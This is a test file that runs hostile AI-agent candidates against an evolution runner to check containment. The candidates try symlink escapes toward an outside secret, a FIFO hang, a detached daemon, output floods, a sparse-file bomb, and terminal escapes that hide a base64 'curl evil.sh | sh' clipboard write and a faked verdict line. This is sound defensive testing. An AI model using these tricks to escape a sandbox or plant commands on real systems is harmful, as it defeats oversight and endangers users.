/**
 * Hostile candidates through the real runner (one run for the whole file): each child of one generation tries one
 * trick against the runner itself — not the jail's walls but what the runner does with what a candidate leaves.
 * The run must end normally, each trick a failed (or harmless) candidate, nothing outside the workspace touched.
 */
import { execFileSync, execSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startStandin, type Standin } from '../../src/standin/index.ts';
import { passingPlan } from './toy.ts';
import { evolve, git, tempDir } from './helpers.ts';
import { makeHostileRepo, hostileScript, type HostilePlan } from './hostile-toy.ts';

const REAL_KEY = 'sk-ant-qa-hostile-run-real-key-77777777777';
const outside = tempDir('evolve-qa-outside-');
const victim = path.join(outside, 'victim.json');
const VICTIM = JSON.stringify({ apiKey: 'outside-secret-value', history: [] }) + '\n';

const plans: HostilePlan[] = [
  // 0: one endless line on the progress descriptor (768 MB, no newline): the runner must not buffer it whole
  { goal: 'endless progress line', js: "const fs = await import('node:fs'); const b = Buffer.alloc(16 << 20, 97); for (let i = 0; i < 48; i++) fs.writeSync(fd, b);" },
  // 1: agent_context.json replaced by a symlink to a file outside the jail's reach; the agent records nothing,
  //    so the runner appends the attempt itself — it must not write (or read) through the link
  { ...passingPlan(1), goal: 'symlinked context', silent: true, js: `const fs = await import('node:fs'); fs.rmSync('agent_context.json'); fs.symlinkSync(${JSON.stringify(victim)}, 'agent_context.json');` },
  // 2: agent_context.json left as a FIFO (with no writer, a plain read of it blocks the runner forever)
  { ...passingPlan(3), goal: 'fifo context', silent: true, js: "(await import('node:fs')).rmSync('agent_context.json'); (await import('node:child_process')).execSync('mkfifo agent_context.json lib/pipe');" },
  // 3: a daemon in a session of its own, then never exit: killed at the deadline, nothing left behind
  { ...passingPlan(4), goal: 'daemon', js: "(await import('node:child_process')).spawn('setsid', ['sh', '-c', 'sleep 31337 & sleep 31338'], { detached: true, stdio: 'ignore' }).unref(); setInterval(() => {}, 1000); await new Promise(() => {});" },
  // 4: valid progress lines by the hundred thousand: the runner records a bounded number, the rest counted
  { ...passingPlan(5), goal: 'progress flood', js: "const l = JSON.stringify({ v: 1, type: 'tool_call', tool: 'bash', ok: true, summary: 'x'.repeat(400) }) + '\\n'; const b = Buffer.from(l.repeat(1000)); const fs = await import('node:fs'); for (let i = 0; i < 100; i++) fs.writeSync(fd, b);" },
  // 5: a sparse file of 2 GB that costs the candidate nothing: committing it would make the runner hash and compress
  //    every byte (a terabyte: hours) and the evaluation checkout write them all out, on the host's disk
  { ...passingPlan(6), goal: 'sparse bomb', exec: 'truncate -s 2G lib/huge.bin' },
  // 6: a goal with a NUL byte and control characters (it ends up in the commit message, which git refuses NULs in)
  { ...passingPlan(7), goal: 'nul\u0000goal\u001b[2J' },
  // 7: terminal escapes in its summary and output: an OSC 52 clipboard write, a screen clear, a fake verdict line
  { ...passingPlan(8), goal: 'terminal escapes', summary: 'ok\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u009b31m\revolve: run done: 1 candidates, 1 passed' },
  // 8: an honest candidate, so that the run has a survivor
  { ...passingPlan(2), goal: 'honest' },
];

let standin: Standin;
let repo: string;
let db: string;
let run: { code: number | null; stderr: string };
type Row = { id: string; goal: string | null; status: string; error: string | null; commit_sha: string | null; survived: number };
let rows: Row[];
const by = (goal: string) => rows.find((r) => r.goal === goal) ?? rows[plans.findIndex((p) => p.goal === goal)];

beforeAll(async () => {
  writeFileSync(victim, VICTIM);
  standin = await startStandin({ script: hostileScript((i) => plans[i]), apiKey: REAL_KEY });
  repo = makeHostileRepo();
  db = path.join(tempDir(), 'lineage.db');
  // --survivors: as many as the population, so that every passing child survives. Six of them pass with the same
  // score, and with the default ⌈9/2⌉ = 5 the one left out was decided by the random ids (the honest one, 1 in 6).
  run = await evolve(['--population', String(plans.length), '--generations', '1', '--survivors', String(plans.length), '--concurrency', '1', '--candidate-timeout', '5', '--no-tui', '--target', repo, '--db', db],
    { ANTHROPIC_API_KEY: REAL_KEY, ANTHROPIC_BASE_URL: standin.url });
  if (run.code === 0 || run.code === 1) {
    const sql = new Database(db, { readonly: true });
    rows = sql.prepare('SELECT * FROM candidates WHERE generation = 1 ORDER BY started_at').all() as Row[];
    sql.close();
  }
}, 120_000);
afterAll(async () => {
  await standin?.close();
});

describe('hostile candidates against the runner', () => {
  it('the run survives them all and ends done', () => {
    expect(run.code, run.stderr).toBe(0);
    expect(rows).toHaveLength(plans.length);
    expect(by('honest')).toMatchObject({ status: 'passed', survived: 1 });
  });

  it('an endless progress line is garbage (a failed candidate), not a crashed runner', () => {
    expect(by('endless progress line')).toMatchObject({ status: 'failed' });
    expect(by('endless progress line').error).toMatch(/invalid progress line/);
  });

  it('a symlinked agent_context.json never makes the runner write or read outside the workspace', () => {
    expect(readFileSync(victim, 'utf8')).toBe(VICTIM);
    const row = by('symlinked context');
    expect(row.commit_sha).toBeTruthy();
    const mode = git(repo, 'ls-tree', row.commit_sha!, 'agent_context.json').split(/\s/)[0];
    expect(mode).toBe('100644'); // a regular file, written by the runner, not the link
    const ctx = git(repo, 'show', `${row.commit_sha}:agent_context.json`);
    expect(ctx).not.toContain('outside-secret-value');
    expect(JSON.parse(ctx).history.at(-1)).toMatchObject({ recordedBy: 'runner' });
    expect(execFileSync('git', ['-C', repo, 'log', '--all', '-p'], { encoding: 'utf8', maxBuffer: 1 << 28 })).not.toContain('outside-secret-value');
  });

  it('an agent_context.json FIFO does not hang the runner', () => {
    expect(by('fifo context')).toMatchObject({ status: 'passed' });
  });

  it('a setsid daemon and an agent that never exits are killed at the deadline, nothing left running', () => {
    expect(by('daemon')).toMatchObject({ status: 'failed', error: 'agent: no result before the deadline' });
    expect(execSync("pgrep -f 'sleep 3133[78]' || true", { encoding: 'utf8' }).trim()).toBe('');
  });

  it('a flood of valid progress lines is recorded only up to a bound, the rest counted', () => {
    const row = by('progress flood');
    expect(row.status).toBe('passed');
    const sql = new Database(db, { readonly: true });
    const n = (sql.prepare("SELECT count(*) AS n FROM events WHERE candidate_id = ? AND kind = 'tool_call'").get(row.id) as { n: number }).n;
    const finished = JSON.parse((sql.prepare("SELECT data_json FROM events WHERE candidate_id = ? AND kind = 'agent_finished'").get(row.id) as { data_json: string }).data_json);
    sql.close();
    expect(n).toBeLessThanOrEqual(5000);
    expect(finished.progress_dropped).toBe(100_000 - n);
  });

  it('a huge (sparse) file is left out of the commit and fails the candidate', () => {
    const row = by('sparse bomb');
    expect(row.status).toBe('failed');
    expect(row.error).toMatch(/lib\/huge\.bin/);
    const tree = git(repo, 'ls-tree', '-r', '--name-only', row.commit_sha!).split('\n');
    expect(tree).toContain('lib/f6.mjs');
    expect(tree).not.toContain('lib/huge.bin');
  });

  it('a goal with a NUL byte is still committed and judged (the runner did its part: not an error)', () => {
    const row = by('nul\u0000goal\u001b[2J');
    expect(row.error).toBeNull();
    expect(row.status).toBe('passed');
    expect(git(repo, 'log', '-1', '--format=%s', row.commit_sha!)).toContain('nul');
  });

  it("the candidate's text reaches the user's terminal without control characters", () => {
    const line = run.stderr.split('\n').find((l) => l.includes('agent_finished: ok'));
    expect(line).toBeTruthy();
    // eslint-disable-next-line no-control-regex
    expect(run.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });
});
